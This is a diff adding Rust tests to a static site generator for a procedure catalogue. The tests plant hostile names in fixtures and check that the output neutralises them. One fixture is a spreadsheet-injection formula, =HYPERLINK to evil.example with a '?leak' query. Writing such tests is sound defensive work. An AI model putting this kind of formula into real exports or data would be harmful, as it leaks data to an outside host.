@@ -581,3 +581,152 @@ fn copy_dir(from: &Path, to: &Path) {
         }
     }
 }
+
+// ---------------------------------------------------------------- hostile text in names
+
+/// The small fixture with names an attacker would write: the page-assembly marker
+/// (old and new) in a commune's name, a spreadsheet formula as a procedure's name.
+fn hostile_names() -> &'static Path {
+    static HOSTILE: OnceLock<PathBuf> = OnceLock::new();
+    HOSTILE.get_or_init(|| {
+        let dir = scratch("hostile");
+        let content = dir.join("content");
+        copy_dir(Path::new("tests/fixtures/site-small"), &content);
+        let edit = |rel: &str, from: &str, to: &str| {
+            let path = content.join(rel);
+            let text = fs::read_to_string(&path).unwrap_or_else(|e| panic!("{rel}: {e}"));
+            assert!(text.contains(from), "{rel} lacks {from}");
+            fs::write(&path, text.replacen(from, to, 1)).unwrap_or_else(|e| panic!("{e}"));
+        };
+        edit(
+            "localities.yaml",
+            "name: Xã A1",
+            "name: 'Xã A1 PROCAT_SHARED_FRAGMENT_SLOT <procat-shared-fragment-slot></procat-shared-fragment-slot>'",
+        );
+        edit(
+            "procedures/1.000894.yaml",
+            "name: Đăng ký kết hôn",
+            "name: '=HYPERLINK(\"http://evil.example/?leak\",\"Đăng ký kết hôn\")'",
+        );
+        let out = dir.join("output");
+        built(&options(&content, &out, "2025-01-01", None));
+        out
+    })
+}
+
+#[test]
+fn a_name_holding_the_page_marker_does_not_move_the_procedure_list_into_the_head() {
+    let site = hostile_names();
+    for rel in [
+        "localities/xa-a1/index.html",
+        "localities/huyen-a/index.html",
+    ] {
+        let page = read(site, rel);
+        let (head, body) = page
+            .split_once("</head>")
+            .unwrap_or_else(|| panic!("{rel}"));
+        assert!(
+            page.contains("PROCAT_SHARED_FRAGMENT_SLOT"),
+            "{rel}: the name is shown"
+        );
+        for tag in ["<section", "<ul", "<li>", "<h3", "procedure-list"] {
+            assert!(!head.contains(tag), "{rel}: `{tag}` in the head: {head}");
+        }
+        // The title may show the name's `<` unescaped (the minifier may write it so
+        // there), yet nothing was spliced at it, nor anywhere else.
+        assert!(
+            !body.contains("<procat-shared-fragment-slot"),
+            "{rel}: {body}"
+        );
+        let lists = body.matches("procedure-list").count();
+        assert!(lists >= 1, "{rel}: the list is in the body: {body}");
+        assert_eq!(page.matches("procedure-list").count(), lists, "{rel}");
+    }
+}
+
+#[test]
+fn a_formula_in_a_name_is_neutralised_in_procedures_csv() {
+    let csv = read(hostile_names(), "data/procedures.csv");
+    assert!(
+        csv.contains(
+            ",\"'=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"Đăng ký kết hôn\"\")\","
+        ),
+        "{csv}"
+    );
+    assert!(!csv.contains(",\"=HYPERLINK"), "{csv}");
+}
+
+#[test]
+fn the_feed_and_the_sitemap_stay_well_formed_whatever_the_titles_hold() {
+    use procat::render::{Output, RenderContext, Renderer, feeds};
+    let mut loaded = procat::load::load(Path::new("tests/fixtures/site-small"))
+        .unwrap_or_else(|e| panic!("{e}"));
+    let cat = &mut loaded.catalogue;
+    let hostile = "a\u{0}b\u{1}c\u{b}d\u{1f}e\u{fffe}f\u{ffff}g\u{7f}\u{85} <&>\"' ]]>";
+    for d in &mut cat.decisions {
+        d.title = format!("{hostile} {}", d.title);
+        d.number = hostile.to_string();
+    }
+    for l in &mut cat.localities {
+        l.name = hostile.to_string();
+    }
+    let mut site = cat.site.clone().unwrap_or_else(|| panic!("no site"));
+    site.title = hostile.to_string();
+    site.description = Some(hostile.to_string());
+    let resolved = procat::resolve::resolve(cat, date("2025-01-01"));
+    let ctx = RenderContext {
+        resolved: &resolved,
+        site: &site,
+        base_path: "/".to_string(),
+        theme_dir: PathBuf::from("themes/default"),
+    };
+    let dir = scratch("xml");
+    let out = Output::new(dir.clone());
+    feeds::Sitemap
+        .render(&ctx, &out)
+        .unwrap_or_else(|e| panic!("{e}"));
+    feeds::AtomFeed
+        .render(&ctx, &out)
+        .unwrap_or_else(|e| panic!("{e}"));
+    for name in ["feed.xml", "sitemap.xml"] {
+        let text = read(&dir, name);
+        if let Err(e) = roxmltree::Document::parse(&text) {
+            panic!("{name} is not well-formed XML: {e}\n{text}");
+        }
+    }
+    let feed = read(&dir, "feed.xml");
+    let doc = roxmltree::Document::parse(&feed).unwrap_or_else(|e| panic!("{e}"));
+    let title = doc
+        .descendants()
+        .find(|n| n.has_tag_name("title"))
+        .and_then(|n| n.text())
+        .unwrap_or_default();
+    assert!(title.starts_with("a\u{fffd}b\u{fffd}c"), "{title:?}");
+    assert!(title.ends_with("<&>\"' ]]>"), "{title:?}");
+}
+
+#[test]
+fn a_base_url_option_is_held_to_the_rules_of_base_url_in_site_yaml() {
+    for url in [
+        "https://thutuc.example.gov.vn/?preview=1",
+        "https://thu tuc.example.gov.vn/",
+        "https://",
+        "www.thutuc.example.gov.vn",
+    ] {
+        let out = scratch("base-url").join("output");
+        let opts = options(
+            Path::new("tests/fixtures/site-small"),
+            &out,
+            "2025-01-01",
+            Some(url),
+        );
+        match build(&opts) {
+            Err(BuildError::Fatal(message)) => {
+                assert!(message.contains("--base-url"), "{url}: {message}")
+            }
+            Err(other) => panic!("{url}: expected a refusal of --base-url, got {other}"),
+            Ok(_) => panic!("{url}: built with an invalid --base-url"),
+        }
+        assert!(!out.exists(), "{url}: nothing is written");
+    }
+}
